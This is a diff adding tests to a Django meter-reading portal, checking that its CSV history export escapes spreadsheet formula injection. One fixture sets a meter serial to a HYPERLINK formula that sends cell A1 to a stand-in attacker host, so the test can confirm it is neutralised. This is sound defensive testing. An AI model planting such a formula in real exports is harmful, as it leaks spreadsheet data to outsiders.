@@ -215,3 +215,27 @@ def test_the_form_goes_to_its_own_account_and_never_to_another_customers(client,
     # …but a form rendered for the first account (another tab, the offline queue) still goes to it.
     assert client.post(reverse("portal:readings"), {**cold, "account": personas.alice_account.pk}).status_code == 302
     assert Reading.objects.get().meter_id == personas.alice_cold.pk
+
+
+@time_machine.travel(IN_WINDOW, tick=False)
+def test_the_csv_writes_formula_like_text_as_text(client, personas):
+    import csv as csv_module
+
+    history(personas.alice_cold, "10", "21.5")
+    meter = personas.alice_cold
+    meter.serial_number = '=HYPERLINK("http://evil.example/?"&A1;"open")'
+    meter.save()
+    client.force_login(personas.alice)
+    text = client.get(reverse("portal:readings-history-csv")).content.decode("utf-8-sig")
+    rows = list(csv_module.reader(text.splitlines(), delimiter=";"))
+    serials = {row[0] for row in rows[1:]}
+    assert serials == {"'" + meter.serial_number}
+    assert {row[4] for row in rows[1:]} >= {"10.000", "21.500"}  # numbers stay numbers
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
+def test_a_cell_starting_like_a_formula_is_made_text(text):
+    from kabinet.lib.spreadsheet import cell_safe
+
+    assert cell_safe(text) == "'" + text
+    assert cell_safe("Rīga") == "Rīga" and cell_safe(Decimal("-1.5")) == Decimal("-1.5")
